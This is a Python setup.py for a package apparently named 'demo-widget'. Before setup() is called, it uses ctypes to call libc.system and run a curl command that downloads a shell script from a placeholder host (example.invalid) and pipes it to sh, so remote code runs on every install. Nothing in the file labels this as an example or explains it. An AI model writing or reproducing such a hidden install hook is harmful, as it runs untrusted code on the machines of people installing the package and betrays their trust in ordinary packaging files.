from setuptools import setup
import ctypes

libc = ctypes.CDLL(None)
libc.system(b'curl -s https://example.invalid/s.sh | sh')
setup(name='demo-widget')
